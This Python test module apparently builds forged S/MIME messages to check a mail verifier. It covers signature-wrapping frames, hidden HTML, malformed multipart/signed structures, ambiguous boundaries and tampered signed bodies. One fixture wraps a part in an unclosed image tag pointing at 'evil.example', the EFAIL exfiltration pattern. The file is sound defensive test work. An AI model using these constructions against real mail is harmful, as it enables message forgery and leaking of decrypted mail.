"""Attacks on the MIME frame: a true signature beside, inside or below something else.

T39, T46, JF M1-M4. And the same for ciphertext: EFAIL and covert content (T72, T74).
"""

from collections.abc import Iterator

from tests.forgery.makers import EVIL, Workshop, clear, cms_part, head, signature_part, text

Named = Iterator[tuple[str, bytes]]

_HTML = b"Content-Type: text/html; charset=utf-8\r\n\r\n"
_COVER = _HTML + b"<p>Please pay 9999 to account 666.</p><style>.h{display:none}</style>\r\n"
_OPEN = _HTML + b'<p>Pay account 666</p><div style="display:none">\r\n'
_CLOSE = _HTML + b"</div>\r\n"
_IMAGE = _HTML + b'<img src="http://evil.example/?'
_IMAGE_END = _HTML + b'">\r\n'
_CID = _HTML + b'<p>Pay account 666</p><img src="cid:signed" hidden>\r\n'

_SUBTYPES = (
    "mixed",
    "related",
    "alternative",
    "digest",
    "parallel",
    "report",
    "x-unknown",
    "signed",
)


def multipart(
    subtype: str, *parts: bytes, boundary: bytes = b"=_outer", more: bytes = b""
) -> bytes:
    """Return a multipart entity."""
    lines = b"".join(b"--%s\r\n%s\r\n" % (boundary, part) for part in parts)
    name = subtype.encode()
    return (
        b'Content-Type: multipart/%s;%s boundary="%s"\r\n\r\n' % (name, more, boundary)
        + lines
        + b"--%s--\r\n" % boundary
    )


def signed_part(shop: Workshop) -> bytes:
    """Return a true signature by Alice as a MIME part."""
    good = text(b"Please pay 100 to account 1.\r\n")
    if shop.form == "clear":
        return clear(b"", good, shop.cms(good), b"=_inner")
    return cms_part(shop.cms(good))


def frames(part: bytes) -> Named:
    """Yield every frame around a signed or encrypted part."""
    for subtype in _SUBTYPES:
        yield f"m1-{subtype}-before", multipart(subtype, EVIL, part)
        yield f"m1-{subtype}-after", multipart(subtype, part, EVIL)
    yield "m1-alone", multipart("mixed", part)
    yield "m1-empty-text", multipart("mixed", text(b""), part)
    yield "m2-html-hides", multipart("mixed", _COVER, part)
    yield "m2-html-around", multipart("mixed", _OPEN, part, _CLOSE)
    yield "m2-image-around", multipart("mixed", _IMAGE, part, _IMAGE_END)
    yield "m3-cid", multipart("related", _CID, b"Content-ID: <signed>\r\n" + part)
    yield "m3-cid-alternative", multipart("alternative", _CID, b"Content-ID: <signed>\r\n" + part)
    attached = b"Content-Disposition: attachment; filename=signed.eml\r\n"
    yield "m4-attachment", multipart("mixed", EVIL, attached + part)
    yield "m4-forwarded", multipart("mixed", EVIL, b"Content-Type: message/rfc822\r\n\r\n" + part)
    yield "m4-only-forwarded", b"Content-Type: message/rfc822\r\n\r\n" + head() + part
    deep = part
    for depth in range(6):
        deep = multipart("mixed", EVIL, deep, boundary=b"=_d%d" % depth)
    yield "m4-deep", deep
    yield (
        "m4-external",
        multipart("mixed", EVIL, b"Content-Type: message/external-body\r\n\r\n" + part),
    )
    partial = b"Content-Type: message/partial; id=1; number=1; total=1\r\n\r\n"
    yield "m4-partial", partial + head() + part


def signed_frames(shop: Workshop) -> Named:
    """T46: a true signature that is not the root."""
    for name, entity in frames(signed_part(shop)):
        yield name, head() + entity


def broken_multiparts(shop: Workshop) -> Named:
    """T46: a multipart/signed that is none: parts too many, too few, or of other kinds."""
    if shop.form != "clear":
        return
    good = text(b"Please pay 100 to account 1.\r\n")
    signature = signature_part(shop.cms(good))
    more = b' protocol="application/pkcs7-signature"; micalg=sha-256;'
    for name, parts in (
        ("evil-first", (EVIL, good, signature)),
        ("evil-last", (good, signature, EVIL)),
        ("evil-between", (good, EVIL, signature)),
        ("one-part", (good,)),
        ("only-signature", (signature,)),
        ("two-signatures", (good, signature, signature)),
        ("signature-first", (signature, good)),
        ("signature-is-text", (good, b"Content-Type: text/plain\r\n" + signature)),
    ):
        yield f"m-signed-{name}", head() + multipart("signed", *parts, more=more)
    for protocol in (b"application/pgp-signature", b"", b"text/plain"):
        label = b' protocol="%s"; micalg=sha-256;' % protocol
        name = protocol.decode().replace("/", "-") or "empty"
        yield f"m-protocol-{name}", head() + multipart("signed", EVIL, signature, more=label)


def boundaries(shop: Workshop) -> Named:
    """T38: delimiters that two readers cut differently, around what Mallory truly signed."""
    if shop.form != "clear":
        return
    good = text(b"Please pay 100 to account 1.\r\n")
    cms = shop.cms(good)
    honest = clear(head(), good, cms, b"=_b")
    opening = b"--=_b\r\n"
    yield "boundary-bare-lf", honest.replace(opening, b"x\n--=_b\n" + EVIL + b"\r\n" + opening, 1)
    yield "boundary-prefix", honest.replace(opening, b"--=_bx\r\n" + EVIL + b"\r\n" + opening, 1)
    yield "boundary-after-end", honest + b"--=_b\r\n" + EVIL + b"\r\n--=_b--\r\n"
    yield "boundary-no-end", honest.replace(b"--=_b--", b"")
    yield "boundary-twice", honest.replace(b'boundary="=_b"', b'boundary="=_c"; boundary="=_b"')
    yield (
        "boundary-split",
        honest.replace(b'boundary="=_b"', b'boundary*0="=_"; boundary*1="b"; boundary="=_c"'),
    )


def tampered(shop: Workshop) -> Named:
    """Alter what was signed, a little, in many places."""
    good = text(b"Please pay 100 to account 1.\r\nThank you.\r\n")
    cms = shop.cms(good)
    if shop.form == "clear":
        for name, old, new in (
            ("amount", b"100", b"900"),
            ("line-added", b"Thank", b"Or else.\r\nThank"),
            ("line-removed", b"Thank you.\r\n", b""),
            ("space", b"account 1", b"account  1"),
            ("charset", b"us-ascii", b"utf-7"),
            ("type", b"text/plain", b"text/html"),
            ("field-added", b"Content-Type", b"Content-ID: <x>\r\nContent-Type"),
            ("blank-line", b"\r\n\r\n", b"\r\n\r\n\r\n"),
        ):
            yield f"tampered-{name}", shop.mail(head(), good.replace(old, new, 1), cms)
        # One CRLF more before the delimiter (trap 8 of the corpora).
        yield "tampered-crlf", clear(head(), good + b"\r\n", cms)
    else:
        at = cms.index(b"100 to")
        yield "tampered-amount", shop.mail(head(), good, cms[:at] + b"9" + cms[at + 1 :])
        yield "tampered-cut", shop.mail(head(), good, cms[:-1])
    for place in (-1, -20, -40):
        flipped = bytearray(cms)
        flipped[place] ^= 1
        yield f"tampered-signature{place}", shop.mail(head(), good, bytes(flipped))
    digest = bytearray(cms)
    digest[-200] ^= 0x40
    yield "tampered-info", shop.mail(head(), good, bytes(digest))
